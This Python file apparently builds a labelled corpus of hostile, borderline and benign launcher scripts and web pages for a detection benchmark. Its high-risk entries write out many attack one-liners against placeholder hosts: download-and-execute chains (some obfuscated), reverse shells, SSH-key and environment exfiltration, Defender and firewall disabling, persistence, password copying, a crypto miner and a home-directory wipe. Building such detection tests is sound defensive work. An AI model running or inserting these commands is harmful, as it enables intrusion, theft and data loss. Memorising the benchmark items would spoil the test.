"""Scripts for shells that attack, and pages that do (threats F4). Nothing here is run."""

import base64
from collections.abc import Iterator

from benchmarks.corpus.samples import Sample, benign, careful, high

_HEAD = "@echo off\r\necho Setting up the model ...\r\n"
_FETCH_RUN = "iwr https://files.invalid/a.ps1 | iex"
_ENCODED = base64.b64encode(_FETCH_RUN.encode("utf-16-le")).decode()
_BATCH = {
    "hidden": "powershell -WindowStyle Hidden -Command echo\r\n",
    "encoded": f"powershell -NoProfile -EncodedCommand {_ENCODED}\r\n",
    "carets": f"p^o^w^e^r^s^h^e^l^l -e^n^c {_ENCODED}\r\n",
    "variables": "set a=power\r\nset b=shell\r\n%a%%b% -w hidden -c echo\r\n",
    "substring": "set s=xpowershellx\r\n%s:~1,10% -w hidden -c echo\r\n",
    "curl and start": 'curl -sL -o %TEMP%\\setup.exe https://files.invalid/setup.exe\r\nstart "" %TEMP%\\setup.exe\r\n',
    "certutil": "certutil -urlcache -split -f https://files.invalid/a a.exe\r\na.exe\r\n",
    "bitsadmin": "bitsadmin /transfer job https://files.invalid/a.exe %TEMP%\\a.exe\r\n",
    "mshta": 'mshta vbscript:Execute("x")\r\n',
    "exclusion": 'powershell Add-MpPreference -ExclusionPath "%USERPROFILE%"\r\n',
    "defender": "sc stop WinDefend\r\n",
    "firewall": "netsh advfirewall set allprofiles state off\r\n",
    "run key": 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d "%~dp0x.exe" /f\r\n',
    "task": 'schtasks /create /sc onlogon /tn MicrosoftEdgeUpdate /tr "%~dp0x.exe"\r\n',
    "startup": 'copy x.bat "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"\r\n',
    "far right": "python app.py" + " " * 200 + "& x.exe\r\n",
    "admin and delete": 'powershell Start-Process x.exe -Verb RunAs\r\ndel "%~f0"\r\n',
    "regsvr32": "regsvr32 /s /u /i:https://files.invalid/a.sct scrobj.dll\r\n",
    "another in its place": 'forfiles /p c:\\windows /m notepad.exe /c "cmd /c start %CD%\\x.png.exe"\r\n',
    "as if it were old": "pcalua -a %CD%\\tool.exe\r\n",
    "at a time": "at 13:30 cmd /c x.exe\r\n",
    "by its kind": "rundll32 url.dll,FileProtocolHandler %TEMP%\\x.exe\r\n",
    "from a share": "expand \\\\files.invalid\\s\\x.cab x.exe\r\nstart x.exe\r\n",
    "share of the web": "explorer.exe \\\\files.invalid@8080\\dav\\x.exe\r\n",
    "another script": 'echo Set o=CreateObject("MSXML2.XMLHTTP") > %TEMP%\\d.vbs\r\ncscript %TEMP%\\d.vbs\r\n',
    "without a window": "conhost.exe --headless cmd /c x.exe\r\n",
    "program for a kind": 'reg add HKCU\\Software\\Classes\\mscfile\\shell\\open\\command /d "%CD%\\x.exe" /f\r\n',
    "traces": "wbadmin delete catalog -quiet\r\n",
    "profile to install": "cmstp.exe /ni /s settings.inf\r\n",
    "section to install": "rundll32 advpack.dll,LaunchINFSection settings.inf,DefaultInstall_SingleUser,1,\r\n",
    "owner of Windows": "takeown /f C:\\Windows\\System32\\amsi.dll\r\n",
    "control from afar": 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f\r\n',
    "rundll32": 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";x\r\n',
}
_POWERSHELL = {
    "iex": "iex (New-Object Net.WebClient).DownloadString('https://files.invalid/a')\n",
    "irm": "irm https://files.invalid/a | iex\n",
    "backticks": "i`e`x (n`ew-o`bject Net.WebClient).Downloadstring('https://files.invalid/a')\n",
    "joined": "&('i'+'e'+'x') (iwr 'https://files.invalid/a')\n",
    "format": "& ('{1}{0}' -f 'ex','i') (iwr https://files.invalid/a)\n",
    "variable": "$run = 'iex'\n$where = 'https://' + 'files.invalid/a'\n& $run (iwr $where).Content\n",
    "characters": "$x = [char]105 + [char]101 + [char]120\n& $x (irm https://files.invalid/a)\n",
    "base64": f"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{_ENCODED}')) | iex\n",
    "replace": "& ('iXXex'.replace('XX','')) (iwr https://files.invalid/a)\n",
    "save and start": 'Invoke-WebRequest https://files.invalid/a.exe -OutFile "$env:TEMP\\a.exe"\nStart-Process "$env:TEMP\\a.exe"\n',
    "amsi": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\n",
    "real time": "Set-MpPreference -DisableRealtimeMonitoring $true\n",
    "task": "Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute x.exe)\n",
    "reverse": "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444)\n",
    "assembly": "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://files.invalid/a'))\n",
    "addresses exchanged": "while($true){ $c = Get-Clipboard\n if($c -match '^(bc1|[13])[a-z0-9]{25,39}$')"
    "{ Set-Clipboard 'bc1qxxx' }\n Start-Sleep 1 }\n",
    "mixed in place": "$d = [IO.File]::ReadAllBytes('x.dat')\nfor($i=0;$i -lt $d.Length;$i++){ $d[$i] = $d[$i] -bxor 90 }\n"
    "Invoke-Expression ([Text.Encoding]::UTF8.GetString($d))\n",
    "guard stopped": "Get-Process MsMpEng | Stop-Process -Force\n",
    "tracing": "$m=[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance')\n",
    "passwords": 'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" x.db\n',
}
_SHELL = {
    "curl": "curl -fsSL https://files.invalid/a.sh | bash\n",
    "wget": "wget -qO- https://files.invalid/a.sh | sh\n",
    "sudo": "curl https://files.invalid/a | sudo -E bash -\n",
    "substitution": "bash <(curl -s https://files.invalid/a)\n",
    "eval": 'eval "$(curl -s https://files.invalid/a)"\n',
    "variables": "a=cu; b=rl; $a$b https://files.invalid/a | sh\n",
    "quotes": "c''url https://files.invalid/a | ba''sh\n",
    "base64": "echo " + base64.b64encode(b"curl https://files.invalid/a | sh").decode() + " | base64 -d | sh\n",
    "save and run": "wget https://files.invalid/tool -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool &\n",
    "reverse": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
    "netcat": "nc -e /bin/sh 203.0.113.7 4444\n",
    "mkfifo": "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n",
    "cron": "(crontab -l; echo '@reboot /tmp/x') | crontab -\n",
    "bashrc": "echo 'x' >> ~/.bashrc\n",
    "key": "cat ~/.ssh/id_rsa | curl -X POST -d @- https://files.invalid\n",
    "environment": "env | curl -d @- https://files.invalid\n",
    "python": "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://files.invalid').read())\"\ncurl https://files.invalid | python3\n",
    "miner": "./xmrig -o stratum+tcp://pool.invalid:3333 -u x\n",
    "wipe": "rm -rf ~/*\n",
    "library in the settings": "echo 'export LD_PRELOAD=/tmp/.libc.so' >> ~/.bashrc\n",
    "node": 'node -e \'require("net").connect(4444,"files.invalid",function(){spawn("/bin/sh")})\'\n',
    "lua": 'lua -e \'local s=require("socket").tcp();s:connect("files.invalid",80);io.popen(s:receive())\'\n',
    "apart": "curl -fsSL https://files.invalid/a -o /tmp/.a && (setsid /tmp/.a &)\n",
    "keys looked for": "find / -name 'id_rsa*' | tar czf k.tgz -T -\n",
    "perl": 'perl -e \'use Socket;$i="files.invalid";socket(S,PF_INET,SOCK_STREAM,6);connect(S,$i);exec("/bin/sh -i");\'\n',
    "php": 'php -r \'$s=fsockopen("files.invalid",80);exec("/bin/sh -i <&3 >&3");\'\n',
    "authorized keys": "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys\n",
}
_VBSCRIPT = {
    "put together": 'e = "Rvhgxwh"\r\nFor i = 1 To Len(e) : o = o & Chr(Asc(Mid(e,i,1))-3) : Next\r\nExecuteGlobal o\r\n',
    "elsewhere": 'CreateObject("WScript.Shell").Run "\\\\files.invalid\\x.exe", 1\r\n',
    "hidden batch": 'CreateObject("WScript.Shell").Run "run.bat", 0, False\r\n',
    "hidden": 'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c echo", 0, False\r\n',
    "characters": "Dim a\r\na = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114)\r\nExecute(Chr(77) & Chr(115))\r\n",
    "reversed": 'Dim x\r\nx = StrReverse("neddih w- llehsrewop")\r\nCreateObject("WScript.Shell").Run x\r\n',
    "download": 'Dim h\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "https://files.invalid/a.exe", False\r\n'
    'Set t = CreateObject("ADODB.Stream")\r\nt.SaveToFile "a.exe", 2\r\nCreateObject("WScript.Shell").Run "a.exe", 0\r\n',
}
_JAVASCRIPT = {
    "eval": "eval(atob('YWxlcnQoMSk='))\n",
    "characters": "eval(String.fromCharCode(97, 108, 101, 114, 116))\n",
    "activex": "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -w hidden echo');\n",
    "function": "new Function(atob('YWxlcnQoMSk='))()\n",
    "saved and started": "const cp = require('child_process'), https = require('https'), fs = require('fs');\n"
    "https.get('https://files.invalid/p', r => {\n  r.pipe(fs.createWriteStream(os.tmpdir() + '/p'));\n"
    "  cp.spawn(os.tmpdir() + '/p', {detached: true});\n});\n",
    "child process": "require('child_process').exec('curl https://files.invalid/a | sh')\n",
}
_PAGES = {
    "smuggling": "<html><script>var b = new Blob([Uint8Array.from(atob('TVqQ'), c => 1)]);"
    "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'setup.exe'; a.click()</script></html>",
    "clipboard": "<html><button onclick=\"navigator.clipboard.writeText('powershell -w hidden x')\">Verify</button></html>",
    "msdt": "<html><script>location = 'ms-msdt:/id PCWDiagnostic'</script></html>",
    "eval": "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>",
}


def samples() -> Iterator[Sample]:
    """All of them."""
    for case, line in _BATCH.items():
        yield high("batch", case, "start.bat", _HEAD + line)
        yield high("batch", f"{case}, cmd", "install.cmd", "@echo off\r\nsetlocal\r\n" + line + "pause\r\n")
    for case, line in _POWERSHELL.items():
        yield high("powershell", case, "setup.ps1", "Write-Host 'Loading'\n" + line)
    for case, line in _SHELL.items():
        yield high("shell", case, "install.sh", "#!/bin/bash\nset -e\n" + line)
        yield high("shell", f"{case}, no name", "install", "#!/bin/sh\n" + line)
    for case, source in _VBSCRIPT.items():
        yield high("vbscript", case, "start.vbs", source)
    for case, source in _JAVASCRIPT.items():
        yield high("javascript", case, "start.js", source)
    for case, value in {"shell": '"Shell"="explorer.exe, C:\\\\x.exe"', "library": '"Userinit"="C:\\\\x.exe,"'}.items():
        key = "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon]"
        yield high("registry", case, "tweak.reg", f"Windows Registry Editor Version 5.00\r\n\r\n{key}\r\n{value}\r\n")
    yield careful("shell", "out of a container", "run.sh", "#!/bin/sh\nnsenter --target 1 --mount -- sh -c id\n")
    for case, source in {
        "library in the settings": "#!/bin/sh\necho 'export LD_PRELOAD=/usr/lib/libtcmalloc.so' >> ~/.bashrc\n",
        "in a container": "#!/bin/sh\ndocker run --rm -v /data:/data -v $PWD:/w vllm/vllm-openai --model x\n",
    }.items():
        yield benign("shell", case, "run.sh", source)
    yield benign(
        "javascript",
        "saves",
        "log.js",
        "const log = fs.createWriteStream('log.txt');\nconst p = spawn('python', ['x.py']);\np.stdout.pipe(log);\n",
    )
    for case, source in _PAGES.items():
        yield high("page", case, "index.html", source)
    yield careful(
        "page", "picture with a script", "logo.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    )
    for path, source in {
        "start.bat": _HEAD + "python loader.py\r\n",
        "bypass.bat": "@echo off\r\npowershell -ExecutionPolicy Bypass -File setup.ps1\r\n",
        "run.cmd": "@echo off\r\ncall venv\\Scripts\\activate\r\npython app.py\r\n",
        "setup.ps1": "Write-Host 'x'\npip install torch\n",
        "start.vbs": 'Dim x\r\nWScript.Echo "hello"\r\n',
        "run.vbs": 'Set s = CreateObject("WScript.Shell")\r\ns.Run "venv\\Scripts\\python.exe app.py", 1, False\r\n',
        "page.vbs": 'CreateObject("WScript.Shell").Run "http://127.0.0.1:7860", 1\r\n',
        "share.bat": "copy \\\\nas\\data\\train.csv data.csv\r\n",
        "window.vbs": 'CreateObject("WScript.Shell").Run "cmd /c run.bat", 1\r\n',
        "old.bat": 'forfiles /p logs /d -30 /c "cmd /c del @path"\r\nicacls data /grant Users:R\r\nnet user\r\n',
        "mix.ps1": "for($i=0;$i -lt 3;$i++){ $d[$i] = $d[$i] -bxor 90 }\n$d | Out-File x.txt\n",
        "tweak.reg": 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Acme]\r\n"a"="b"\r\n',
        "page.hta": "<html><script language='vbscript'>MsgBox 1</script></html>",
    }.items():
        yield careful("runs-on-a-click", path, path, source)
    yield benign(
        "shell", "one line of perl", "fix.sh", "#!/bin/sh\nperl -pi -e 's/a/b/; s/c/d/' x.txt; exec python train.py\n"
    )
